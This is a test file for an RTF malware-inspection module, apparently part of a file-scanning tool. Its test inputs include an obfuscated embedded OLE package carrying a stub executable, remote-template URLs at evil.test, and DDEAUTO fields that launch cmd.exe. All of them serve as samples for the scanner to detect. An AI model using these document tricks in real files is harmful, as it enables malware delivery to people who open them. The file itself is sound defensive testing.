"""Objects in rich text, however their digits are scattered."""

import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatepost.files.documents import dispatch
from gatepost.files.values import Contents, File, UnpackBudget


def ole1(name: bytes, native: bytes) -> bytes:
    text = struct.pack("<III", 0x501, 2, len(name) + 1) + name + b"\0" + bytes(8)
    return text + struct.pack("<I", len(native)) + native


PACKAGE = b"\x02\0a.exe\0C:\\a.exe\0\0\0\x03\0" + struct.pack("<I", 2) + b"x\0" + struct.pack("<I", 4) + b"MZ\0\0"
DIGITS = ole1(b"Package", PACKAGE).hex().encode()


def contents(text: bytes) -> Contents:
    return dispatch.inspect(File("1", text, "rtf", "0" * 64), UnpackBudget())


def seen(text: bytes) -> list[str]:
    found = contents(text)
    return sorted({trait.name for trait in found.traits} | {link.host for link in found.links})


@pytest.mark.parametrize(
    "data",
    [
        DIGITS,
        b"\r\n".join(DIGITS[at : at + 7] for at in range(0, len(DIGITS), 7)),
        DIGITS[:20] + b"{\\*\\junk 1234}" + DIGITS[20:],
        DIGITS[:20] + b"\\par \\junkword12 " + DIGITS[20:],
        DIGITS[:21] + b"{}" + DIGITS[21:],
        b"{" + DIGITS + b"}",
        DIGITS.upper(),
        b"{\\*\\datafield " + DIGITS + b"}",
        DIGITS[:40] + b"zz ghi!" + DIGITS[40:],
    ],
    ids=range(9),
)
def test_an_object_is_unfolded(data: bytes) -> None:
    found = contents(b"{\\rtf1 text {\\object\\objemb{\\*\\objdata " + data + b"}} more}")
    assert found.members[0].content == b"MZ\0\0"
    assert found.members[0].names == ("a.exe", "x")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"{\\rtf1 Hello}", []),
        (b"{\\rtf1 {\\pict 0102030405}}", []),
        (b"{\\rtf1 {\\object{\\*\\objclass Equation.3}{\\*\\objdata 00}}}", ["embedded-object", "equation-editor"]),
        (
            b"{\\rtf1 {\\object{\\*\\objdata " + ole1(b"eQuatiON.3", b"x" * 40).hex().encode() + b"}}}",
            ["embedded-object", "equation-editor"],
        ),
        (b"{\\rtf1{\\*\\template http://evil.test/a.dotm}}", ["evil.test", "remote-template"]),
        (b"{\\rtf1{\\*\\template \\\\\\\\evil.test\\\\a.dotm}}", ["evil.test", "remote-template"]),
        (b"{\\rtf1{\\*\\template C:\\\\Users\\\\ann\\\\Normal.dotm}}", []),  # on the author's disk
        (b'{\\rtf1{\\field{\\*\\fldinst {HYPERLINK "http://a.test/"}}{\\fldrslt x}}}', ["a.test"]),
        (b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k calc"}{\\fldrslt x}}}', ["dde"]),
        (b'{\\rtf1{\\field{\\*\\fldinst {\\rtlch DD}{\\b EAUTO} c:\\\\cmd.exe "/k calc"}}}', ["dde"]),
        (b"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} about DDEAUTO}", []),
    ],
)
def test_tricks(text: bytes, expected: list[str]) -> None:
    assert seen(text) == expected


def test_a_million_groups_cost_one_search() -> None:
    assert contents(b"{\\rtf1 " + b"{" * 1_000_000).unread == ()


def test_objects_in_objects_are_paid_for() -> None:
    found = contents(b"{\\rtf1 " + b"{\\*\\objdata 01 " * 5_000)
    assert found.unread


def test_fields_in_fields_are_paid_for() -> None:
    assert contents(b"{\\rtf1 " + b"{\\*\\fldinst " * 50_000).unread == ("count",)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_no_damage_raises(data: st.DataObject) -> None:
    text = bytearray(b"{\\rtf1{\\*\\template x}{\\field{\\*\\fldinst DDE \\u1234?}}{\\*\\objdata " + DIGITS + b"}}")
    for _ in range(data.draw(st.integers(1, 20))):
        text[data.draw(st.integers(0, len(text) - 1))] = data.draw(st.sampled_from(b"{}\\'* 0aF\xff\0"))
    assert isinstance(contents(bytes(text)), Contents)
